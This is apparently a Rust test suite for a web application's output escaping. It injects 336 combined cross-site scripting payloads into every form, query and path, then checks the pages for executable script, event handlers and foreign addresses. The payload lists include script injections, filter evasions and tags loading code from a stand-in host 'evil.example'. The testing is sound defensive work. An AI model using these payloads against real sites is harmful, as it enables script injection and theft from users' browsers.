//! Hostile words: some hundred of them in every field that keeps or repeats what somebody typed, on every page there is.
//! Each page is read as a browser reads it; none may hold a script, a handler or an address that is not ours.

use scraper::{Html, Selector};
use serde_json::json;
use web::{Access, Scope};

use crate::browser::{Answer, Browser};
use crate::ministry::Ministry;

/// What gets out of the place a word stands in.
const OUT: [&str; 12] = [
    "",
    "\">",
    "'>",
    "\" ",
    "--> ",
    "]]>",
    "</textarea>",
    "</title>",
    "</script>",
    "</pre></bdi>",
    "</option></select>",
    "</svg></style>",
];

/// What is run once outside.
const RUN: [&str; 28] = [
    "<script>x()</script>",
    "<SCRIPT/x SRC=//evil.example/x>",
    "<scr<script>ipt>x()</script>",
    "<img src=x onerror=x()>",
    "<svg onload=x()>",
    "<svg/onload=x()//",
    "<body onload=x()>",
    "<iframe src=javascript:x()>",
    "<iframe srcdoc='<script>x()</script>'>",
    "<a href=javascript:x()>x</a>",
    "<a href=JaVaScRiPt&#58;x()>x</a>",
    "<a href='data:text/html,<script>x()</script>'>",
    "<form action=javascript:x()><button>",
    "<button formaction=javascript:x()>",
    "<math><mi xlink:href=javascript:x()>",
    "<object data=javascript:x()>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:x()'>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<style>@import '//evil.example/x';</style>",
    "<details open ontoggle=x()>",
    "<input autofocus onfocus=x()>",
    "<video><source onerror=x()>",
    "<noscript><p title='</noscript><img src=x onerror=x()>'>",
    "onmouseover=x() x=",
    "javascript:x()",
    "&lt;script&gt;x()&lt;/script&gt;&#60;script&#62;x()",
];

/// Every way out with everything that runs.
fn payloads() -> Vec<String> {
    OUT.iter().flat_map(|out| RUN.iter().map(move |run| format!("{out}{run}"))).collect()
}

/// What a browser would do on a page that is not ours.
fn faults(html: &Html) -> Vec<String> {
    let all = Selector::parse("*").expect("a selector");
    let mut faults = Vec::new();
    for element in html.select(&all) {
        let name = element.value().name();
        let strange =
            ["iframe", "object", "embed", "base", "style", "img", "video", "source", "noscript", "math"];
        if strange.contains(&name) {
            faults.push(format!("<{name}>"));
        }
        let ours = |address: &str| address.starts_with("/assets/");
        if matches!(name, "script" | "link")
            && !element.attr("src").or(element.attr("href")).is_some_and(ours)
        {
            faults.push(format!("<{name}> that is not ours"));
        }
        for (attribute, value) in element.value().attrs() {
            let value = value.trim().to_lowercase();
            let leads = ["href", "src", "action", "formaction", "data", "xlink:href"].contains(&attribute);
            // A scheme stands before the first slash.
            let first = value.split('/').next().unwrap_or_default();
            let scheme = first.contains(':') && !["http:", "https:"].contains(&first);
            let away = scheme || value.starts_with("//");
            if attribute.starts_with("on")
                || ["style", "srcdoc", "http-equiv"].contains(&attribute)
                || leads && away
            {
                faults.push(format!("<{name} {attribute}={value}>"));
            }
        }
    }
    faults
}

/// What was looked at.
#[derive(Default)]
struct Looked {
    pages: usize,
    others: usize,
    elements: usize,
}

impl Looked {
    fn at(&mut self, answer: &Answer) {
        let of = &answer.path;
        let policy = answer.headers.get("content-security-policy").expect("a policy on every answer");
        let strict = policy.starts_with("default-src 'none'") && policy.contains("script-src 'self';");
        assert!(strict && !policy.contains("unsafe"), "{of}: {policy}");
        assert_eq!(answer.headers["x-content-type-options"], "nosniff", "{of}");
        let kind = answer.headers.get("content-type").map_or("", String::as_str);
        if kind.starts_with("text/html") {
            let html = answer.html();
            let faults = faults(&html);
            assert!(faults.is_empty(), "{of}: {faults:?}");
            self.pages += 1;
            self.elements += html.select(&Selector::parse("*").expect("a selector")).count();
        } else {
            let known = ["application/", "text/plain", "text/calendar", "text/css", "text/javascript"];
            assert!(
                answer.body.is_empty() || known.iter().any(|known| kind.starts_with(known)),
                "{of}: {kind}"
            );
            self.others += 1;
        }
    }

    fn get(&mut self, browser: &mut Browser, path: &str) -> Answer {
        let answer = browser.get(path);
        self.at(&answer);
        answer
    }
}

/// A word as it stands in an address.
fn in_address(word: &str) -> String {
    word.bytes().map(|byte| format!("%{byte:02X}")).collect::<Vec<_>>().concat()
}

/// A sheet whose every word that is kept is hostile.
fn sheet(subject: &str, words: &str) -> String {
    let lines: Vec<&str> = words.lines().collect();
    let points = lines.chunks(lines.len().div_ceil(90)).map(|some| format!("- {}\n", some.join(" ")));
    let points = points.collect::<Vec<_>>().concat();
    format!(
        "TO: EUROPE\nCLASSIFICATION: CONFIDENTIAL\nPRECEDENCE: IMMEDIATE\nTAGS: EFIS\nSUBJECT: {subject}\nDUE: 2026-11-24 17:00\n\
         LEVEL: director\nREPORT: REPLY CABLE\n\n1. (C) {}\n\nPOINTS\n{points}",
        lines.join(" ")
    )
}

#[test]
fn the_judge_sees_what_would_run() {
    let places = [
        ("<p>", "</p>"),
        ("<p title=\"", "\">x</p>"),
        ("<p title='", "'>x</p>"),
        ("<p ", ">x</p>"),
        ("<a href=\"", "\">x</a>"),
        ("<textarea>", "</textarea>"),
        ("<!-- ", " -->"),
    ];
    let seen = |payload: &&String| {
        places.iter().any(|(before, after)| {
            let page = format!("<!doctype html><title>x</title>{before}{payload}{after}");
            !faults(&Html::parse_document(&page)).is_empty()
        })
    };
    let all = payloads();
    let seen = all.iter().filter(seen).count();
    // What is left is an address, or was made harmless before it came.
    assert!(all.len() == 336 && seen >= 280, "{seen} of {}", all.len());
}

#[test]
fn no_hostile_word_runs_on_any_page_whatever_field_it_was_typed_into() {
    let all = payloads();
    let mut ministry = Ministry::open();
    ministry.webhook_hosts.push("listed.example".parse().expect("a host"));
    ministry.restart(|_| {});
    let words = all.join("\n");
    let (first, second) = (all[..168].join("\n"), all[168..].join("\n"));

    // The whole cycle, hostile in every field that takes prose.
    ministry.administrator("director.oceans");
    ministry.open_office("AGY", &all[0]);
    let at = ministry.released(&sheet(&all[..8].join(" "), &words));
    let mut lisbon = ministry.browser("lis.political");
    let tasking = format!("/t/{}/LIS", at.trim_start_matches("/i/"));
    let program = ministry.program("lis.political", &[Scope::Act, Scope::Draft], None);
    let with = json!({ "office": all[..8].join(" "), "level": "director" });
    let answer = json!({ "text": words, "stance": "leans-toward", "given": "orally", "confidence": "high" });
    let points: Vec<_> = (1..=84)
        .map(|point| json!({ "point": point, "became": "adapted", "why": all[point % all.len()] }))
        .collect();
    let log = json!({ "on": "2026-11-20", "form": "call", "with": with, "points": points, "answer": answer,
        "notes": words });
    for (act, body) in [
        ("acknowledge", json!({})),
        ("plan", json!({ "on": "2026-11-23", "form": "call", "with": with })),
        ("object", json!({ "proposes": "delay", "why": first })),
        ("ask-extension", json!({ "to": "2026-12-01T12:00:00Z", "why": second })),
        ("log", log),
    ] {
        let told = program.post(&format!("{tasking}/{act}"), &body);
        assert_eq!(told.status, 201, "{act}: {}", told.body);
    }
    let reply = crate::REPLY.replace("They lean toward it.", &words.replace('\n', " "));
    let told = program.post(&format!("{tasking}/reply"), &json!({ "sheet": reply }));
    assert_eq!(told.status, 201, "{}", told.body);

    // Reasons of an emergency, half of them each.
    for (officer, why) in [("night.duty", &first), ("day.duty", &second)] {
        ministry.on_duty(officer);
        let mut duty = ministry.browser(officer);
        let page = duty.get("/emergency");
        let typed = [("emergency-cable", "2026 MFA 0001"), ("emergency-why", why.as_str())];
        let opened = duty.submit(&page, "/emergency", &typed);
        assert!(opened.path.starts_with("/emergency/"), "{}", opened.text(".errors"));
    }

    // A draft for every few of them, in the subject that lists repeat; tokens and searches by their names.
    let desk = ministry.program("oceans.desk", &[Scope::Draft], None);
    let mut drafts = Vec::new();
    for some in all.chunks(4) {
        let told = desk.post("/compose", &json!({ "sheet": sheet(&some.join(" "), &some.join("\n")) }));
        assert_eq!(told.status, 201, "{}", told.body);
        drafts.push(told.headers["location"].trim_end_matches(".json").to_owned());
    }
    let officers = ["oceans.desk", "treaty.desk", "director.oceans", "lis.political", "lis.head", "osl.head"];
    let mut named = all.iter().filter(|word| word.chars().count() <= 80);
    for officer in officers {
        for label in named.by_ref().take(48) {
            ministry.token_named(officer, label);
        }
    }
    let mut oceans = ministry.browser("oceans.desk");
    let mut looked = Looked::default();
    let search = oceans.get("/q?q=gear").form("/q/keep", &[]);
    for some in all.chunks(9) {
        let typed = |(name, value): &(String, String)| {
            (name.clone(), if name == "q" { some.join(" ") } else { value.clone() })
        };
        let fields: Vec<_> = search.iter().map(typed).collect();
        assert_eq!(oceans.post("/q/keep", &fields).status, 303);
    }

    // Forms that come back with what was typed, and words that nobody saved.
    let mut typed = |browser: &mut Browser, page: &str, action: &str, fields: &[(&str, &str)]| {
        let form = browser.get(page);
        looked.at(&browser.submit(&form, action, fields));
    };
    typed(&mut oceans, "/compose", "/compose", &[("text", &words), ("act", "preview")]);
    typed(
        &mut oceans,
        "/me/hooks",
        "/me/hooks",
        &[("address", &format!("https://listed.example/{}", all[14]))],
    );
    typed(
        &mut lisbon,
        &tasking,
        &format!("{tasking}/object"),
        &[("object-why", &words), ("object-proposes", &all[3])],
    );
    typed(
        &mut lisbon,
        &tasking,
        &format!("{tasking}/plan"),
        &[("plan-office", &words), ("plan-on", &all[1])],
    );
    typed(
        &mut lisbon,
        &tasking,
        &format!("{tasking}/log"),
        &[("log-answer", &words), ("log-office", &all[1])],
    );
    let mut duty = ministry.browser("night.duty");
    let hostile = [("emergency-cable", all[1].as_str()), ("emergency-why", words.as_str())];
    typed(&mut duty, "/emergency", "/emergency", &hostile);
    let opening = [("emergency-cable", "2026 MFA 0001"), ("emergency-why", "x")];
    typed(&mut duty, "/emergency", "/emergency", &opening);
    let mut guest = Browser::new(ministry.at);
    typed(&mut guest, "/sign-in", "/sign-in", &[("officer", &words)]);

    // A reply that is marked lower, and why that is right.
    let lower = crate::REPLY.replace("CONFIDENTIAL", "UNCLASSIFIED").replace("(C)", "(U)");
    let told = program.post(&format!("{tasking}/reply"), &json!({ "sheet": lower, "interim": true }));
    let lower = told.headers["location"].trim_end_matches(".json").to_owned();
    let mut chief = ministry.browser("lis.head");
    typed(&mut chief, &format!("{lower}/check"), &format!("{lower}/regrade"), &[("regrade-why", &first)]);
    assert!(looked.get(&mut chief, &lower).text("main").contains(&all[7]), "the reason is shown as typed");

    // Every page, for everybody, with hostile words in every question.
    let names =
        ["q", "standing", "sort", "on", "known", "topic", "next", "to", "office", "restore", "page", "form"];
    let question: String = names
        .iter()
        .zip(all.iter().step_by(29))
        .fold("?x=1".to_owned(), |question, (name, word)| format!("{question}&{name}={}", in_address(word)));
    let pages: Vec<_> = web::routes().into_iter().filter(|route| route.method == "GET").collect();
    for officer in officers {
        let mut browser = ministry.browser(officer);
        for route in &pages {
            if matches!(route.access, Access::Program(Scope::Feed)) || route.path.ends_with("/events") {
                continue;
            }
            let path =
                route.path.replace("{instruction}", at.trim_start_matches("/i/")).replace("{post}", "LIS");
            let path = path.replace("{cable}", "2026-MFA-0001").replace("{name}", "x").replace("{act}", "x");
            looked.get(&mut browser, &path);
            looked.at(&browser.get_once(&format!("{path}{question}")));
            let lost = route
                .path
                .split('/')
                .map(|part| if part.starts_with('{') { in_address(&all[0]) } else { part.into() });
            looked.at(&browser.get_once(&lost.collect::<Vec<_>>().join("/")));
        }
        looked.get(&mut browser, "/p/AGY");
    }
    for (draft, page) in drafts.iter().flat_map(|draft| ["", "/revise", "/check"].map(|page| (draft, page))) {
        looked.get(&mut oceans, &format!("{draft}{page}"));
    }
    for word in &all {
        looked.get(&mut oceans, &format!("/q?q={}", in_address(word)));
        looked.at(&oceans.get_once(&format!("/go?to={}", in_address(word))));
        looked.at(&lisbon.get_once(&format!("/r/{}", in_address(word))));
    }
    let shown = looked.get(&mut oceans, &at);
    assert!(
        shown.text(".points").contains(&all[40]) || shown.text("main").contains(&all[40]),
        "they are shown as typed"
    );
    let Looked { pages, others, elements } = looked;
    println!(
        "{} hostile words, {pages} pages with {elements} elements and {others} other answers",
        all.len()
    );
    assert!(pages > 1_000 && others > 50, "{pages} {others}");
}
